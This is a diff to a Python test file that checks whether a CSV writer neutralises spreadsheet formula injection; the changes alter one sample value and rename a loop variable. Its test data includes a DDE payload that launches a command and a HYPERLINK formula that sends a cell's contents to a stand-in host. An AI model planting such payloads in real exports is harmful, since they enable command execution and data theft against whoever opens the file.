@@ -189,7 +189,7 @@ def test_a_half_written_file_is_private_and_a_whole_one_has_the_rights_of_any_ne
 
 
 FORMULAS = (
-    "=1+1", "+1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", '"=1+1', "\uff1d1+1", "-1e999", "a;=1+1",
+    "=1+1", "+1+1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", '"=1+1', "\uff1d1+1", "-1e999", "a;=1+1",
     "=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "-2+3+cmd", "a;b;@x",
 )  # fmt: skip
 
@@ -198,9 +198,9 @@ def test_no_cell_of_a_csv_file_is_one_that_a_spreadsheet_computes(tmp_path):
     write_csv(tmp_path / "a.csv", [{"x": text, "n": -1.5} for text in FORMULAS], ["x", "n"])
     with (tmp_path / "a.csv").open(newline="") as file:
         cells = [row["x"] for row in csv.DictReader(file)]
-    for given, cell in zip(FORMULAS, cells, strict=True):
+    for text, cell in zip(FORMULAS, cells, strict=True):
         for part in cell.split(";"):
-            assert not part.strip().startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), given
+            assert not part.strip().startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), text
             assert "\n" not in part and "\r" not in part
     write_csv(tmp_path / "b.csv", [{"x": text} for text in ("-1.5", "2", "iou>=0.5", "a-b", "mIoU")], ["x"])
     assert (tmp_path / "b.csv").read_text() == "x\n-1.5\n2\niou>=0.5\na-b\nmIoU\n"
